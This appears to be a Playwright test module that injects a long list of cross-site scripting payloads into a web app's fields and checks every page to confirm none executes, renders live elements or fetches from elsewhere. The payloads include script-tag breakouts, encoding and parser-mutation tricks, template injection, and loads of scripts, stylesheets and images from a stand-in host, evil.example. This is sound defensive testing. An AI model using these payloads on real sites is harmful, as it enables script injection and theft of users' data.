import { expect } from 'chai';
import type { Page } from 'playwright-core';
import { settle } from './browser.ts';
import type { Say, WholeHost } from './whole-host.ts';

const run = 'window.ran=1';
const handlers = [
  'onload',
  'onerror',
  'onfocus',
  'onclick',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onpageshow',
];
const tags = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'input autofocus', 'details open', 'marquee'];
const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', '\u0001javascript:', 'javascript&colon;', 'vbscript:'];

/** Each would set `window.ran`, or fetch from elsewhere, if the place that shows it took it for more than text. */
export const attacks: readonly string[] = [
  ...tags.flatMap((tag) => handlers.slice(0, 5).map((handler) => `<${tag} ${handler}=${run}>`)),
  ...handlers.slice(5).map((handler) => `<div ${handler}=${run}>`),
  ...schemes.flatMap((scheme) => [`<a href="${scheme}${run}">x</a>`, `[x](${scheme}${run})`, `${scheme}${run}`]),
  ...['"', "'", '`', '">', "'>", '--><', '*/', '\\"', '</title>', '</textarea>', '</style>', '</script>', ']]>'].map(
    (closing) => `${closing}<script>${run}</script>`,
  ),
  `<script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script\u2028>${run}</script>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<object data="data:text/html,<script>parent.ran=1</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${run}>">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`,
  `<math><maction actiontype="statusline#x" xlink:href="javascript:${run}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<button form=x formaction="javascript:${run}">x</button>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<p style="background:url(https://evil.example/p.gif)">`,
  `<img src="https://evil.example/p.gif" onerror=${run}>`,
  `![x](https://evil.example/p.gif)`,
  `![x](x"onerror="${run})`,
  `[x](data:text/html,<script>parent.ran=1</script>)`,
  `[x](https://example.com/"onmouseover="${run})`,
  `<javascript:${run}>`,
  `[x]: javascript:${run}`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<select><style></select><img src=x onerror=${run}></style>`,
  `<xss style="animation:x" onanimationend=${run}>`,
  `{{constructor.constructor("${run}")()}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a template engine would run
  '${window.ran=1}',
  `#{${run}}`,
  `<%= ${run} %>`,
  `'-(${run})-'`,
  `";${run};//`,
  `__proto__[innerHTML]=<img src=x onerror=${run}>`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
  `<!--><img src=x onerror=${run}>-->`,
  `\u202e<script>${run}</script>`,
  `\uFF1Cscript\uFF1E${run}\uFF1C/script\uFF1E`,
  `<img src=x onerror\u00a0=${run}>`,
  `<img/src=x/onerror=${run}//`,
];

const limits: Record<string, number> = {
  ...{ readme: 50_000, changelog: 50_000, output: 50_000, event: 50_000, event_data: 50_000, record: 50_000 },
  ...{
    answer_of_the_receiver: 400,
    description: 1_900,
    action_hint: 1_900,
    hint: 1_900,
    reason: 1_900,
    log_field: 3_000,
  },
};
const shortest = 190;

/** The attacks in pieces of at most so many characters, none cut. */
function pieces(most: number): string[] {
  const all: string[] = [''];
  for (const attack of attacks) {
    const longer = `${all.at(-1)} ${attack}`;
    if (longer.length <= most) all[all.length - 1] = longer;
    else all.push(attack);
  }
  return all;
}

const mark = (place: string): string => `«${place}»`;
const room = (place: string): number => (limits[place] ?? shortest) - mark(place).length - 1;

/** So many rounds show each attack in each place. */
export const roundsOfAttacks = pieces(shortest - 30).length;

/** What a hostile publisher, vendor or user writes in a round: the place's name, to find it again, and attacks. */
export function hostileIn(round: number, used: Set<string>): Say {
  return (place) => {
    used.add(place);
    const all = pieces(Math.min(room(place), (limits[place] ?? shortest) - 30));
    return `${mark(place)} ${all[round % all.length]}`;
  };
}

/**
 * Looks at every page, opens all that can be opened there, and holds that nothing ran, nothing was fetched from elsewhere
 * and no element or link came of a text.
 *
 * @returns the places whose text was seen
 */
export async function seeEveryPage(whole: WholeHost, page: Page, complaints: string[]): Promise<Set<string>> {
  const seen = new Set<string>();
  const search = encodeURIComponent(attacks.slice(0, 20).join(' '));
  const more: [string, string][] = [
    ['refusal', `/integrations?error=${search}`],
    ['search', `/marketplace?search=${search.slice(0, 150)}`],
  ];
  const look = async (name: string) => {
    const found = (await page.evaluate(`({
      ran: window.ran,
      elements: document.querySelectorAll('main :is(script, iframe, object, embed, base, link, marquee, style:not([data-mantine-styles]), math, [onerror], [onload], [onfocus], [onclick])').length,
      links: [...document.querySelectorAll('a')].map((a) => a.protocol).filter((one) => !/^(https?|mailto):$/.test(one)),
      fetched: performance.getEntriesByType('resource').map((one) => one.name).filter((one) => !one.startsWith(location.origin)),
      text: document.body.innerText + [...document.querySelectorAll('input, textarea, option')].map((one) => one.value + one.placeholder).join(' '),
    })`)) as { ran: unknown; elements: number; links: string[]; fetched: string[]; text: string };
    const { text, ...harm } = found;
    expect(harm, name).to.deep.equal({ ran: undefined, elements: 0, links: [], fetched: [] });
    expect(complaints.splice(0), name).to.deep.equal([]);
    for (const [, place] of text.matchAll(/«(\w+)»/g)) if (place) seen.add(place);
  };
  for (const [name, address] of [...whole.addresses, ...more]) {
    await page.goto(whole.host.url + address);
    await settle(page);
    const closed = page.locator('main [aria-expanded="false"]:is(button):not([aria-haspopup])');
    for (let left = Math.min(6, await closed.count()); left > 0; left--) await closed.first().click();
    await look(name);
  }
  const menu = page.getByRole('button', { name: /^Workspace / });
  await menu.click();
  await look('the menu of workspaces');
  await page.getByRole('menuitem').filter({ hasText: '«other_workspace»' }).click();
  await menu.filter({ hasText: '«other_workspace»' }).waitFor();
  await look('another workspace');
  // Whoever looks again begins in the first one, as here.
  await page.context().clearCookies({ name: 'pb_workspace' });
  return seen;
}
